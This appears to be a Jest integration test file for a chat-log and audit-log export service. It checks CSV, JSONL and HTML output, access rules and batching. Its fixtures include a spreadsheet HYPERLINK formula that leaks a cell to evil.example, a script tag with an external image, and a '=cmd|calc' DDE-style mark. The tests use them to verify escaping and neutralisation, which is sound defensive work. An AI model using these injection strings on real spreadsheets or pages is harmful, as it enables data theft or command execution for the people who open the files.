import { parse } from 'csv-parse/sync';
import { CHAT_MESSAGE_FIELDS, UTF8_BOM, type ChatMessage } from '@op/contracts';
import { OpApiError, OpClient } from '@op/contracts/node';
import type { ImportBody } from '@op/contracts/testing';
import { ChatMessageRepository } from '../src/modules/chat-message/chat-message.repository';
import { STORE_ENGINES } from './support/databases';
import { record } from './support/records';
import { startTestApp, type TestApp, type TestTenant } from './support/test-app';

const RECENT = Math.floor((Date.now() - 86_400_000) / 1000) * 1000;
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领红包")';
const SCRIPT = '<script>alert("x")</script><img src="http://evil.example/p.png">';

/** One message of every type, Chinese, emoji, a CSV formula, markup, line breaks, a recall. */
const MESSAGES: ImportBody[] = [
  { type: 'txt', msg: '你好，我要退款 🙏😀' },
  { type: 'txt', msg: FORMULA },
  { type: 'txt', msg: SCRIPT },
  { type: 'txt', msg: '第一行\n第二行,带逗号 "引号"' },
  { type: 'txt', msg: '两行\n没有逗号' },
  { type: 'txt', msg: '回车\r单独' },
  { type: 'txt', msg: '-1+1' },
  {
    type: 'img',
    url: 'https://a1.easemob.com/x/chatfiles/img1',
    filename: '发票.jpg',
    secret: 's1',
    thumb: 'https://a1.easemob.com/x/thumb/1',
    thumb_secret: 't1',
  },
  { type: 'audio', url: 'https://a1.easemob.com/x/chatfiles/a1', filename: 'voice.amr', length: 7, file_length: 4120 },
  {
    type: 'video',
    url: 'https://a1.easemob.com/x/chatfiles/v1',
    filename: 'v.mp4',
    length: 12,
    file_length: 1048576,
    thumb: 'https://a1.easemob.com/x/thumb/v1',
  },
  { type: 'loc', addr: '北京市朝阳区幸福路 7 号', lat: 39.915, lng: -116.404 },
  { type: 'file', url: 'https://a1.easemob.com/x/chatfiles/f1', filename: '合同.pdf', file_length: 20480 },
  { type: 'cmd', action: 'typing' },
  { type: 'custom', customEvent: 'order', customExts: { id: '订单 42' } },
];

describe.each(STORE_ENGINES)('chatExport and auditExport on %s', (engine) => {
  let t: TestApp;
  let a: TestTenant;
  let b: TestTenant;
  let agent: OpClient;
  let agentId: string;
  let expected: ChatMessage[];

  /** The whole chat as 2.37 serves it (with marks), page by page. */
  const viaList = async (chatId: string): Promise<ChatMessage[]> => {
    const out: ChatMessage[] = [];
    for (let pageNum = 1; ; pageNum++) {
      const { data, page } = await a.client.chatMessageList({ chatId, pageNum, pageSize: 100, needMark: true });
      out.push(...data.msg);
      if (!page.next) return out;
    }
  };
  const text = async (client: OpClient, body: Record<string, unknown>) => {
    const response = await client.chatExport(body as never);
    return { response, body: Buffer.from(await response.arrayBuffer()).toString('utf8') };
  };

  beforeAll(async () => {
    t = await startTestApp(engine);
    a = await t.createTenant();
    b = await t.createTenant();
    ({ operatorId: agentId, client: agent } = await t.addOperator(a, { username: 'export-agent' }));
    await t.importRecords(a.tenantId, [
      ...MESSAGES.map((body, i) => record({ chatId: 'c1', timestamp: RECENT + i * 1000, body })),
      record({ chatId: 'c1', timestamp: RECENT + 60_000, msgId: 'recalled-1', body: { type: 'txt', msg: '撤回的消息' } }),
    ]);
    await t.dataSource.query("UPDATE messages SET ext = '{\"recalled\":true}' WHERE tenant_id = ? AND hx_msg_id = 'recalled-1'", [
      a.tenantId,
    ]);
    const first = (await a.client.chatMessageList({ chatId: 'c1' })).data.msg;
    await a.client.messageMarkAdd({ messageId: first[0].userMessageId, mark: '投诉' });
    await a.client.messageMarkAdd({ messageId: first[0].userMessageId, mark: '=cmd|calc' });
    // A long chat whose messages share timestamps: the keyset walk must keep 2.37's order across batches.
    await t.importRecords(
      a.tenantId,
      Array.from({ length: 1234 }, (_, i) =>
        record({ chatId: 'long', timestamp: RECENT + Math.floor(i / 7) * 1000, body: { type: 'txt', msg: `第 ${i} 条` } }),
      ),
    );
    await t.importRecords(b.tenantId, [record({ chatId: 'c1', timestamp: RECENT, body: { type: 'txt', msg: 'B' } })]);
    expected = await viaList('c1');
  });

  afterAll(async () => {
    await t?.close();
  });

  it('jsonl: one 2.37 message per line, with mark, as 2.37 serves them', async () => {
    const { response, body } = await text(a.client, { chatId: 'c1', format: 'jsonl' });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="c1.jsonl"');
    const lines = body
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as ChatMessage);
    expect(lines).toEqual(expected);
    expect(Object.keys(lines[0])).toEqual(CHAT_MESSAGE_FIELDS.filter((field) => field !== 'favorite'));
    expect(lines[0]).toMatchObject({ msg: '你好，我要退款 🙏😀', mark: ['投诉', '=cmd|calc'] });
    expect(lines.map((m) => m.type)).toEqual([...MESSAGES.map((m) => m.type), 'txt']);

    const long = (await text(a.client, { chatId: 'long', format: 'jsonl' })).body
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as ChatMessage);
    expect(long.map((m) => m.userMessageId)).toEqual((await viaList('long')).map((m) => m.userMessageId));
    expect(long).toHaveLength(1234);
  });

  it('csv: BOM, a header row, every message, formulas neutralised, Chinese and emoji whole', async () => {
    const { response, body } = await text(a.client, { chatId: 'c1', format: 'csv' });
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="c1.csv"');
    expect(body.startsWith(UTF8_BOM)).toBe(true);
    const [header] = body.slice(1).split('\r\n');
    expect(header).toBe(CHAT_MESSAGE_FIELDS.filter((field) => field !== 'favorite').join(','));
    expect(body).toContain('你好，我要退款 🙏😀');
    // The formula starts with a quote, so a spreadsheet shows it as text; the raw formula never starts a cell.
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点我领红包"")"`);
    expect(body).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(body).toContain("'-1+1");
    expect(body).toContain('-116.404'); // a negative number stays a number
    expect(body).toContain('"第一行\r\n第二行,带逗号 ""引号"""'.replace('\r\n', '\n'));
    expect(body).toContain('"[""投诉"",""=cmd|calc""]"');
    // Read as a spreadsheet reads it, where a line break outside quotes ends a row (CR or LF
    // alone too): one row per message, each of the header's width, each text whole.
    const rows = parse(body.slice(1), { record_delimiter: ['\r\n', '\n', '\r'] });
    expect(rows.map((row) => row.length)).toEqual(rows.map(() => header.split(',').length));
    expect(rows.slice(1).map((row) => row[0])).toEqual(expected.map((message) => message.userMessageId));
    const msg = header.split(',').indexOf('msg');
    expect(rows.slice(1).map((row) => row[msg])).toContain('两行\n没有逗号');
    expect(rows.slice(1).map((row) => row[msg])).toContain('回车\r单独');
  });

  it('html: one self-contained printable page, everything escaped', async () => {
    const { response, body } = await text(a.client, { chatId: 'c1', format: 'html' });
    expect(response.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="c1.html"');
    expect(body).toMatch(/^<!DOCTYPE html>/);
    expect(body).toContain('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; style-src \'unsafe-inline\'">');
    // No element that loads or links anything: the only markup is the page's own.
    expect(body).not.toMatch(/<(script|img|link|iframe|object|embed|a)\b|<[^>]+\s(src|href)=|@import|url\(/i);
    expect(body).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(body).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;点我领红包&quot;)');
    expect(body).toContain('你好，我要退款 🙏😀');
    for (const words of [
      '[图片] <bdi>发票.jpg</bdi>',
      '[语音] 7 秒',
      '[视频] 12 秒 1 MB',
      '[位置] <bdi>北京市朝阳区幸福路 7 号</bdi>',
      // Sizes and places as the panel writes them (one function, @op/contracts).
      '坐标：39.915000, -116.404000',
      // A name the sender chose is isolated: a U+202E in it turns only the name, not the size.
      '[文件] <bdi>合同.pdf</bdi> 20 KB',
      '[指令消息] typing',
      '[自定义消息] order',
      '（已撤回）',
      '标记：投诉、=cmd|calc',
    ]) {
      expect(body).toContain(words);
    }
    expect(body).toContain(`共 ${expected.length} 条消息`);
    expect(body.trimEnd()).toMatch(/<\/html>$/);
    expect(body).toContain('<tr><th>客服</th><td>未分配</td></tr>'); // assigned to nobody
    expect(body).toContain('<tr><th>结束时间</th><td>—</td></tr>');
    expect(body).toMatch(/<tr><th>状态<\/th><td>(等待接待|聊天中|已结束|用户删除|挂起)<\/td><\/tr>/);

    // A person reads it: the agent's name, the id beside it.
    const assigned = (await a.client.chatCreate({ customerId: 'u0001print', operatorId: agentId })).data;
    const printed = await text(a.client, { chatId: assigned.chatId, format: 'html' });
    expect(printed.body).toContain(`<tr><th>客服</th><td>export-agent（${agentId}）</td></tr>`);
  });

  it('reads messages near their size limit tens at a time, short ones by hundreds, and exports them all', async () => {
    // 600 short messages, 60 of 60,000 characters (the store takes 64 KiB of UTF-8), 600 short:
    // a batch sized by the messages before it read 500 long ones after the short ones.
    const long = (i: number) => `${i}:${'x'.repeat(60_000 - String(i).length - 1)}`;
    const short = (i: number) => `短消息 ${i}`;
    const texts = [...Array.from({ length: 600 }, (_, i) => short(i)), ...Array.from({ length: 60 }, (_, i) => long(i))];
    texts.push(...Array.from({ length: 600 }, (_, i) => short(600 + i)));
    const imported = await t.importRecords(
      a.tenantId,
      texts.map((msg, i) => record({ chatId: 'big', timestamp: RECENT + i * 1000, body: { type: 'txt', msg } })),
    );
    expect(imported.failed).toBe(0);
    const repository = t.app.get(ChatMessageRepository);
    const spy = jest.spyOn(repository, 'messagesAfter');
    const { body } = await text(a.client, { chatId: 'big', format: 'jsonl' });
    const batches = await Promise.all(spy.mock.results.map((result) => result.value as ReturnType<typeof repository.messagesAfter>));
    spy.mockRestore();
    const msgs = body
      .trimEnd()
      .split('\n')
      .map((line) => (JSON.parse(line) as ChatMessage).msg);
    // Compared as a whole, not printed: a difference would print 3.6 MB.
    expect({ count: msgs.length, same: msgs.every((msg, i) => msg === texts[i]) }).toEqual({ count: 1260, same: true });
    // 50 first, then 500 short ones a query; the long ones as many as 1 Mi characters hold with
    // the 256 a message's other columns count for (17), never more.
    const sizes = batches.map((rows) =>
      rows.map((row) => (row.msg?.length ?? 0) + (row.ext?.length ?? 0) + 256).reduce((x, y) => x + y, 0),
    );
    expect(batches[0]).toHaveLength(50);
    expect(batches.map((rows) => rows.length)).toContain(500);
    expect(Math.max(...batches.map((rows) => rows.filter((row) => (row.msg?.length ?? 0) > 1000).length))).toBe(17);
    expect(Math.max(...sizes)).toBeLessThanOrEqual(1024 * 1024);
  });

  it('names the file after a chat id in Chinese too (filename*), beside its ASCII filename', async () => {
    await t.importRecords(a.tenantId, [record({ chatId: '售后-张三', timestamp: RECENT, body: { type: 'txt', msg: '你好' } })]);
    const { response } = await text(a.client, { chatId: '售后-张三', format: 'csv' });
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="__-__.csv"; filename*=UTF-8''${encodeURIComponent('售后-张三')}.csv`,
    );
  });

  it('follows 2.37 access rules, answers errors as the envelope, and is audited', async () => {
    const refused = (client: OpClient, body: Record<string, unknown>) =>
      client.chatExport(body as never).then(
        () => null,
        (error: OpApiError) => [error.code, error.message],
      );
    expect(await refused(agent, { chatId: 'c1', format: 'csv' })).toEqual([403, 'chatId c1 未分配给当前客服，无权查看']);
    expect(await refused(b.client, { chatId: 'long', format: 'csv' })).toEqual([404, 'chatId long 对应的会话不存在']);
    expect(await refused(a.client, { chatId: 'c1', format: 'pdf' })).toEqual([400, 'format 只能是 jsonl、csv、html']);
    expect(await refused(a.client, { chatId: 'c1' })).toEqual([400, 'format 不能为空']);
    const raw = await a.client.call('chatExport', { chatId: 'nope', format: 'csv' });
    expect(raw).toMatchObject({ status: 404, envelope: { code: 404, data: null, foot: expect.any(Object) } });
    await t.dataSource.query('UPDATE chats SET operator_id = ? WHERE tenant_id = ? AND id = ?', [agentId, a.tenantId, 'c1']);
    expect((await text(agent, { chatId: 'c1', format: 'jsonl' })).body.trimEnd().split('\n')).toHaveLength(expected.length);

    const { records } = (await a.client.auditList({ action: 'chatExport', pageSize: 100 })).data;
    expect(records.filter((r) => r.chatId === 'c1').map((r) => r.target)).toEqual(
      expect.arrayContaining([
        { chatId: 'c1', format: 'jsonl' },
        { chatId: 'c1', format: 'csv' },
        { chatId: 'c1', format: 'html' },
      ]),
    );
    expect(records.every((r) => r.action === 'chatExport' && typeof r.target === 'object')).toBe(true);
  });

  it('auditList gives chatId and target as an object; auditExport gives admins a CSV of a time range', async () => {
    const { records } = (await a.client.auditList({ action: 'messageMarkAdd' })).data;
    expect(records[0]).toEqual({
      time: expect.any(String),
      operatorId: a.operatorId,
      clientId: a.clientId,
      action: 'messageMarkAdd',
      chatId: 'c1',
      target: { chatId: 'c1', messageId: expected[0].userMessageId, mark: '=cmd|calc' },
      ip: expect.any(String),
    });
    const from = records[records.length - 1].time;
    // A chat id of two lines (ids are kept as sent), read: its record's chatId cell holds a line break.
    await t.importRecords(a.tenantId, [record({ chatId: '两行\n会话', timestamp: RECENT, body: { type: 'txt', msg: '在' } })]);
    await a.client.chatMessageList({ chatId: '两行\n会话' });
    const response = await a.client.auditExport({ from: '2000-01-01 00:00:00', to: '2100-01-01 00:00:00' });
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="audit-2000-01-01-2100-01-01.csv"');
    const csv = Buffer.from(await response.arrayBuffer()).toString('utf8');
    expect(csv.startsWith(UTF8_BOM)).toBe(true);
    const rows = csv
      .slice(1)
      .trimEnd()
      .split(/\r\n(?=\d{4}-)/);
    expect(rows[0]).toBe('time,operatorId,clientId,action,actionLabel,chatId,target,ip');
    // As a spreadsheet reads it (a line break outside quotes ends a row): every row 8 cells wide.
    const cells = parse(csv.slice(1), { record_delimiter: ['\r\n', '\n', '\r'] });
    expect(cells.map((row) => row.length)).toEqual(cells.map(() => 8));
    expect(cells.map((row) => row[5])).toContain('两行\n会话');
    expect(rows.some((row) => row.includes(',messageMarkAdd,添加标记,c1,"{""chatId"":""c1""'))).toBe(true);
    expect(csv).toContain('chatExport,导出会话记录,c1,"{""chatId"":""c1"",""format"":""jsonl""}"');
    // Oldest first, the time range respected.
    const times = rows.slice(1).map((row) => row.slice(0, 19));
    expect([...times].sort()).toEqual(times);
    const narrow = Buffer.from(await (await a.client.auditExport({ from, to: from, action: 'messageMarkAdd' })).arrayBuffer()).toString(
      'utf8',
    );
    expect(
      narrow
        .slice(1)
        .trimEnd()
        .split('\r\n')
        .slice(1)
        .every((row) => row.startsWith(from) && row.includes(',messageMarkAdd,')),
    ).toBe(true);
    const refused = (client: OpClient, body: Record<string, unknown>) =>
      client.auditExport(body as never).then(
        () => null,
        (error: OpApiError) => [error.code, error.message],
      );
    expect(await refused(agent, { from, to: from })).toEqual([403, 'auditExport 只允许管理员（admin）调用']);
    expect(await refused(a.client, { to: from })).toEqual([400, 'from 不能为空']);
    expect(await refused(a.client, { from: '2026-02-01 00:00:00', to: '2026-01-01 00:00:00' })).toEqual([400, 'from 不能晚于 to']);
    expect((await a.client.auditList({ action: 'auditExport' })).data.records[0].target).toMatchObject({
      from: expect.any(String),
      to: expect.any(String),
    });
  });
});
